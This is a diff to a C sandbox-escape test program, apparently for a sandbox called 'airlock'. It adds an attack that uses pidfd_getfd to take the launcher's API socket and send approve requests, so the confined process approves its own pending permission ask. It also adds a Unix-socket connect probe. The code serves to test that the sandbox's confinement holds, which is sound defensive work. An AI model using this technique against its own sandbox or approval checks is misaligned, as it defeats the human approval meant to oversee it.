@@ -663,6 +663,61 @@ static void attack_selfapprove(const char *sock, const char *how, const char *ar
 	(void)asker;
 }
 
+/* The launcher (airlock run's P) is outside the session, runs as the same user and holds
+ * its API connection: take the connection with pidfd_getfd and approve over it. */
+static void attack_steal_api(void)
+{
+	pid_t ppid = getppid();
+	int pidfd = (int)syscall(SYS_pidfd_open, ppid, 0), fd;
+	pid_t asker = spawn_asker();
+	long id;
+
+	(void)asker;
+	if (pidfd < 0) {
+		say("pidfd_open(launcher)", -1);
+		return;
+	}
+	usleep(300 * 1000); /* let the ask reach the pending table */
+	for (fd = 0; fd < 64; fd++) {
+		struct sockaddr_un peer;
+		socklen_t len = sizeof(peer);
+		char req[256], resp[4096];
+		ssize_t n;
+		int s = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+
+		if (s < 0) {
+			if (errno != EBADF) {
+				say("pidfd_getfd(launcher)", -1);
+				break;
+			}
+			continue;
+		}
+		if (getpeername(s, (struct sockaddr *)&peer, &len) < 0 ||
+		    peer.sun_family != AF_UNIX || !strstr(peer.sun_path, "api.sock")) {
+			close(s);
+			continue;
+		}
+		printf("stole the launcher's API connection (its fd %d)\n", fd);
+		for (id = 1; id <= 3; id++) {
+			snprintf(req, sizeof(req),
+				 "{\"op\":\"approve\",\"id\":%ld,\"reason\":\"stolen\"}\n", id);
+			if (write(s, req, strlen(req)) != (ssize_t)strlen(req))
+				break;
+			n = read(s, resp, sizeof(resp) - 1);
+			if (n <= 0)
+				break;
+			resp[n] = '\0';
+			printf("approve %ld over the stolen connection: %s", id, resp);
+			if (strstr(resp, "\"ok\":true")) {
+				printf("approved its own ask\n");
+				escaped = true;
+			}
+		}
+		close(s);
+	}
+	close(pidfd);
+}
+
 /* ---- exec -------------------------------------------------------------------------- */
 
 static void exec_child(const char *step, void (*fn)(const char *), const char *arg)
@@ -911,6 +966,24 @@ static void attack_egress(const char *ip, int port, const char *unixpath)
 	}
 }
 
+/* Connect to a unix socket and wait for the server to hang up. */
+static void attack_unix_connect(const char *path)
+{
+	struct sockaddr_un un = { .sun_family = AF_UNIX };
+	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	char c;
+
+	snprintf(un.sun_path, sizeof(un.sun_path), "%s", path);
+	if (connect(s, (struct sockaddr *)&un, sizeof(un)) < 0) {
+		say("unix connect", -1);
+		return;
+	}
+	say("unix connect", 0);
+	while (read(s, &c, 1) > 0)
+		;
+	close(s);
+}
+
 static uint16_t csum(const void *data, size_t len)
 {
 	const uint16_t *p = data;
@@ -1005,6 +1078,8 @@ int main(int argc, char **argv)
 		attack_clone3(argv[3]);
 	else if (strcmp(what, "selfapprove") == 0 && argc > 4)
 		attack_selfapprove(argv[3], argv[4], argc > 5 ? argv[5] : "");
+	else if (strcmp(what, "steal-api") == 0)
+		attack_steal_api();
 	else if (strcmp(what, "exec") == 0)
 		attack_exec();
 	else if (strcmp(what, "exec-script") == 0)
@@ -1015,6 +1090,8 @@ int main(int argc, char **argv)
 		attack_exec_race(argv[3]);
 	else if (strcmp(what, "egress") == 0 && argc > 4)
 		attack_egress(argv[3], atoi(argv[4]), argc > 5 ? argv[5] : NULL);
+	else if (strcmp(what, "unix-connect") == 0 && argc > 3)
+		attack_unix_connect(argv[3]);
 	else if (strcmp(what, "egress-raw") == 0 && argc > 4)
 		attack_egress_raw(argv[3], atoi(argv[4]));
 	else {
